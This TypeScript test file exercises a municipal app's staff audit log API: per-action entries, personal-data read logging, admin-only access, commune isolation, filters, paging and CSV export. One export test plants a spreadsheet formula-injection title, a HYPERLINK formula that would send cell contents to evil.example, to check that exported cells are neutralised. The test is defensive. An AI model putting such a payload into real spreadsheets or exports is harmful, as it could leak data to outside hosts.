/**
 * The audit log through the API, against the real local stand-ins: each staff change leaves exactly one entry with
 * its author and item (a replayed request none), opening a report or permit as staff leaves a personal-data read,
 * only admins read the log (list and CSV), its filters and paging work, the CSV is safe to open in a spreadsheet,
 * and one commune never sees another's entries.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { addDays } from '@tandem/shared';
import { api, auth, sampleReport, signIn } from './api-client.js';
import { readCsv } from './csv-reader.js';
import { demoPassword } from '../support/local-env.js';
import { occupationDetails, requester, today } from './permit-fixtures.js';

const C = '/api/soignies';
let agent = '';
let worker = '';
let admin = '';
let braineAdmin = '';

beforeAll(async () => {
  [agent, worker, admin, braineAdmin] = await Promise.all([
    signIn('soignies', 'agent@soignies.example', demoPassword()),
    signIn('soignies', 'ouvrier@soignies.example', demoPassword()),
    signIn('soignies', 'admin@soignies.example', demoPassword()),
    signIn('braine-le-comte', 'admin@braine-le-comte.example', demoPassword()),
  ]);
});

interface Entry {
  at: string;
  action: string;
  actor: { sub: string; email: string; name: string };
  item: { kind: string; id: string };
  detail?: string;
  route: string;
  requestId: string;
}

/** The log as the admin reads it, for a query. */
async function audit(query: string, token = admin, commune = 'soignies') {
  const r = await api('GET', `/api/${commune}/staff/audit?${query}`, { headers: auth(token) });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body as { items: Entry[]; cursor?: string; partial: boolean; from: string; to: string };
}
const entriesOf = async (id: string, extra = '') => (await audit(`item=${encodeURIComponent(id)}&limit=100${extra}`)).items;

async function newReport() {
  const r = await api('POST', `${C}/reports`, { body: sampleReport() });
  expect(r.status).toBe(201);
  return r.body.code as string;
}

describe('what the log records', () => {
  it('an agent’s transition and public update each leave exactly one entry, with author, item, route and request', async () => {
    const code = await newReport();
    const t = await api('POST', `${C}/staff/reports/${code}/transitions`, {
      headers: auth(agent),
      body: { to: 'acknowledged', version: 1 },
    });
    expect(t.status).toBe(200);
    const u = await api('POST', `${C}/staff/reports/${code}/updates`, {
      headers: auth(agent),
      body: { text: 'Une équipe passe demain.', public: true, version: 2 },
    });
    expect(u.status).toBe(200);
    const entries = await entriesOf(code);
    expect(entries.map((e) => e.action)).toEqual(['report.update', 'report.transition']);
    for (const e of entries) {
      expect(e.actor).toMatchObject({ email: 'agent@soignies.example', name: 'Agent démo' });
      expect(e.actor.sub).toBeTruthy();
      expect(e.item).toEqual({ kind: 'report', id: code });
      expect(e.requestId).toBeTruthy();
    }
    expect(entries[1]).toMatchObject({ route: 'POST /api/{commune}/staff/reports/{code}/transitions', detail: 'new → acknowledged' });
    // The timeline item of each change carries its author too.
    const staffView = await api('GET', `${C}/staff/reports/${code}`, { headers: auth(admin) });
    const authored = staffView.body.timeline.filter((x: { kind: string }) => x.kind !== 'created');
    expect(authored.every((x: { actor?: string }) => x.actor === 'Agent démo')).toBe(true);
  });

  it('a request replayed with the same Idempotency-Key leaves no second entry', async () => {
    const code = await newReport();
    const headers = { ...auth(agent), 'idempotency-key': `audit-${crypto.randomUUID()}` };
    const body = { text: 'Note interne', public: false, version: 1 };
    const first = await api('POST', `${C}/staff/reports/${code}/updates`, { headers, body });
    const again = await api('POST', `${C}/staff/reports/${code}/updates`, { headers, body });
    expect([first.status, again.status]).toEqual([200, 200]);
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect((await entriesOf(code)).map((e) => e.action)).toEqual(['report.note']);
  });

  it('a map item’s publication, edit and removal each leave one entry (a replayed publication none)', async () => {
    const body = {
      kind: 'parking_ban',
      title: 'Déménagement, rue du Lombard',
      description: 'Camion devant le n° 8',
      streets: ['Rue du Lombard'],
      geometry: { type: 'Point', coordinates: [4.0724, 50.5804] },
      period: { start: addDays(today(), 1), end: addDays(today(), 1) },
    };
    const headers = { ...auth(agent), 'idempotency-key': `map-${crypto.randomUUID()}` };
    const created = await api('POST', `${C}/staff/map/items`, { headers, body });
    expect(created.status).toBe(201);
    expect((await api('POST', `${C}/staff/map/items`, { headers, body })).status).toBe(200);
    const id = created.body.id as string;
    expect((await entriesOf(id)).map((e) => e.action)).toEqual(['mapitem.create']);
    const put = await api('PUT', `${C}/staff/map/items/${id}`, {
      headers: auth(admin),
      body: { ...body, title: 'Déménagement (2)', version: 1 },
    });
    expect(put.status).toBe(200);
    expect((await api('DELETE', `${C}/staff/map/items/${id}?version=2`, { headers: auth(agent) })).status).toBe(204);
    const entries = await entriesOf(id);
    expect(entries.map((e) => [e.action, e.actor.email, e.item.kind])).toEqual([
      ['mapitem.delete', 'agent@soignies.example', 'map-item'],
      ['mapitem.update', 'admin@soignies.example', 'map-item'],
      ['mapitem.create', 'agent@soignies.example', 'map-item'],
    ]);
  });

  it('names each author of a map item’s changes (publisher, then whoever edits it)', async () => {
    const body = {
      kind: 'parking_ban',
      title: 'Livraison',
      description: 'Camion',
      streets: ['Rue Neuve'],
      geometry: { type: 'Point', coordinates: [4.0724, 50.5804] },
      period: { start: addDays(today(), 2), end: addDays(today(), 2) },
    };
    const created = await api('POST', `${C}/staff/map/items`, { headers: auth(agent), body });
    const put = await api('PUT', `${C}/staff/map/items/${created.body.id}`, { headers: auth(admin), body: { ...body, version: 1 } });
    expect(put.status).toBe(200);
    const entries = await entriesOf(created.body.id);
    expect(entries.map((e) => e.actor.name)).toEqual(['Admin démo', 'Agent démo']);
  });

  it('issuing and revoking an Open311 key each leave one entry', async () => {
    const issued = await api('POST', `${C}/staff/open311/keys`, { headers: auth(admin), body: { application: 'Appli de test' } });
    expect(issued.status).toBe(201);
    expect((await api('DELETE', `${C}/staff/open311/keys/${issued.body.id}`, { headers: auth(admin) })).status).toBe(204);
    expect((await api('DELETE', `${C}/staff/open311/keys/${issued.body.id}`, { headers: auth(admin) })).status).toBe(404);
    const entries = await entriesOf(issued.body.id, '&kind=open311-key');
    expect(entries.map((e) => [e.action, e.actor.email])).toEqual([
      ['open311key.revoke', 'admin@soignies.example'],
      ['open311key.issue', 'admin@soignies.example'],
    ]);
    expect(entries[1].detail).toBe('Appli de test');
  });

  it('opening a report or a permit as staff records one personal-data read per opening', async () => {
    const code = await newReport();
    for (let i = 0; i < 2; i++) expect((await api('GET', `${C}/staff/reports/${code}`, { headers: auth(agent) })).status).toBe(200);
    // A worker is shown the report without the reporter's e-mail and name (docs/roles.md): no read to record.
    expect((await api('GET', `${C}/staff/reports/${code}`, { headers: auth(worker) })).status).toBe(200);
    const reads = await entriesOf(code, '&action=report.personal-data.read');
    expect(reads).toHaveLength(2);
    expect(reads[0]).toMatchObject({
      actor: { email: 'agent@soignies.example' },
      item: { kind: 'report', id: code },
      route: 'GET /api/{commune}/staff/reports/{code}',
    });
    // The public tracking page shows no personal data and records nothing.
    expect((await api('GET', `${C}/reports/${code}`)).status).toBe(200);
    expect(await entriesOf(code)).toHaveLength(2);

    const p = await api('POST', `${C}/permits`, { body: { kind: 'occupation', details: occupationDetails(), requester: requester() } });
    expect(p.status).toBe(201);
    expect((await api('GET', `${C}/staff/permits/${p.body.code}`, { headers: auth(admin) })).status).toBe(200);
    expect((await entriesOf(p.body.code)).map((e) => [e.action, e.actor.email])).toEqual([
      ['permit.personal-data.read', 'admin@soignies.example'],
    ]);
  });

  it('a permit’s staff transition and note each leave one entry', async () => {
    const p = await api('POST', `${C}/permits`, { body: { kind: 'occupation', details: occupationDetails(), requester: requester() } });
    const code = p.body.code as string;
    const note = await api('POST', `${C}/staff/permits/${code}/updates`, {
      headers: auth(admin),
      body: { text: 'Vu', public: false, version: 1 },
    });
    expect(note.status).toBe(200);
    const moved = await api('POST', `${C}/staff/permits/${code}/transitions`, {
      headers: auth(admin),
      body: { to: 'under_review', version: 2 },
    });
    expect(moved.status, JSON.stringify(moved.body)).toBe(200);
    expect((await entriesOf(code)).map((e) => [e.action, e.detail])).toEqual([
      ['permit.transition', 'submitted → under_review'],
      ['permit.note', undefined],
    ]);
  });
});

describe('who reads the log', () => {
  it('only admins: an agent or a worker gets 403 on the list and the export, no token 401', async () => {
    for (const path of ['staff/audit', 'staff/audit.csv']) {
      expect((await api('GET', `${C}/${path}`, { headers: auth(agent) })).status).toBe(403);
      expect((await api('GET', `${C}/${path}`, { headers: auth(worker) })).status).toBe(403);
      expect((await api('GET', `${C}/${path}`)).status).toBe(401);
      expect((await api('GET', `${C}/${path}`, { headers: auth(braineAdmin) })).status).toBe(403);
    }
  });

  it('never lists another commune’s entries', async () => {
    const code = await newReport();
    await api('POST', `${C}/staff/reports/${code}/transitions`, { headers: auth(agent), body: { to: 'acknowledged', version: 1 } });
    expect(await entriesOf(code)).toHaveLength(1);
    const braine = await audit(`item=${code}`, braineAdmin, 'braine-le-comte');
    expect(braine.items).toEqual([]);
    const all = await audit('limit=100', braineAdmin, 'braine-le-comte');
    expect(all.items.every((e) => e.route.length > 0 && !e.actor.email.endsWith('@soignies.example'))).toBe(true);
    // A Soignies cursor does not page Braine-le-Comte's log.
    const soignies = await audit('limit=1');
    expect(soignies.cursor).toBeTruthy();
    const cross = await api('GET', `/api/braine-le-comte/staff/audit?cursor=${soignies.cursor}`, { headers: auth(braineAdmin) });
    expect(cross.status).toBe(400);
    expect(cross.body['invalid-params'][0].name).toBe('cursor');
  });
});

describe('filters, paging and export', () => {
  it('filters by action, staff member (e-mail in any case) and period, newest first, paged with a cursor', async () => {
    const code = await newReport();
    let version = 1;
    for (const text of ['un', 'deux', 'trois']) {
      const r = await api('POST', `${C}/staff/reports/${code}/updates`, { headers: auth(agent), body: { text, public: false, version } });
      expect(r.status).toBe(200);
      version += 1;
    }
    await api('GET', `${C}/staff/reports/${code}`, { headers: auth(admin) });

    const page1 = await audit(`item=${code}&action=report.note&limit=2`);
    expect(page1.items).toHaveLength(2);
    expect(page1.cursor).toBeTruthy();
    const page2 = await audit(`item=${code}&action=report.note&limit=2&cursor=${page1.cursor}`);
    const ats = [...page1.items, ...page2.items].map((e) => e.at);
    expect(ats).toHaveLength(3);
    expect([...ats].sort().reverse()).toEqual(ats);
    expect(page2.cursor).toBeUndefined();

    expect((await audit(`item=${code}&staff=AGENT@soignies.example`)).items.map((e) => e.action)).toEqual([
      'report.note',
      'report.note',
      'report.note',
    ]);
    const byAdmin = await audit(`item=${code}&staff=admin@soignies.example`);
    expect(byAdmin.items.map((e) => e.action)).toEqual(['report.personal-data.read']);
    expect((await audit(`item=${code}&staff=${byAdmin.items[0].actor.sub}`)).items).toHaveLength(1);

    // A period around today holds them; one that ended two days ago none (whatever the hour the test runs at).
    expect((await audit(`item=${code}&from=${addDays(today(), -1)}&to=${today()}`)).items).toHaveLength(4);
    const before = await audit(`item=${code}&from=${addDays(today(), -40)}&to=${addDays(today(), -2)}`);
    expect(before.items).toEqual([]);
    expect(before.from).toBe(addDays(today(), -40));
  });

  it('refuses bad queries with a 400 naming the field', async () => {
    const name = async (q: string) => {
      const r = await api('GET', `${C}/staff/audit?${q}`, { headers: auth(admin) });
      expect(r.status, q).toBe(400);
      expect(r.headers['content-type']).toBe('application/problem+json');
      return r.body['invalid-params'].map((p: { name: string }) => p.name);
    };
    expect(await name('from=2026-02-30')).toEqual(['from']);
    expect(await name('action=report.delete')).toEqual(['action']);
    expect(await name('kind=citizen')).toEqual(['kind']);
    expect(await name(`from=${today()}&to=${addDays(today(), -1)}`)).toEqual(['from']);
    expect(await name('from=2000-01-01')).toEqual(['from']);
    expect(await name('limit=0')).toEqual(['limit']);
    expect(await name('cursor=not-a-cursor')).toEqual(['cursor']);
    // A cursor of another period.
    const code = await newReport();
    for (let i = 0; i < 2; i++) await api('GET', `${C}/staff/reports/${code}`, { headers: auth(admin) });
    const page = await audit('limit=1');
    expect(await name(`from=${addDays(today(), -60)}&to=${addDays(today(), -40)}&cursor=${page.cursor}`)).toEqual(['cursor']);
  });

  it('exports the same entries as CSV with a header row, quoting as RFC 4180 says and neutralising formulas', async () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez, ici")';
    const created = await api('POST', `${C}/staff/map/items`, {
      headers: auth(agent),
      body: {
        kind: 'parking_ban',
        title,
        description: 'Camion',
        streets: ['Rue Neuve'],
        geometry: { type: 'Point', coordinates: [4.0724, 50.5804] },
        period: { start: addDays(today(), 1), end: addDays(today(), 1) },
      },
    });
    expect(created.status).toBe(201);
    const r = await api('GET', `${C}/staff/audit.csv?item=${created.body.id}`, { headers: auth(admin) });
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="audit-soignies-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = String(r.body);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = readCsv(text.slice(1));
    expect(rows[0]).toEqual([
      'at',
      'action',
      'staff_name',
      'staff_email',
      'staff_sub',
      'item_kind',
      'item_id',
      'detail',
      'route',
      'request_id',
    ]);
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
    expect(row).toMatchObject({ action: 'mapitem.create', staff_email: 'agent@soignies.example', item_id: created.body.id });
    expect(row.detail).toBe(`'${title}`);
    expect(row.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+0[12]:00$/);
    // No cell a spreadsheet would run as a formula.
    expect(rows.flat().some((c) => /^[=+\-@]/.test(c))).toBe(false);
  });
});
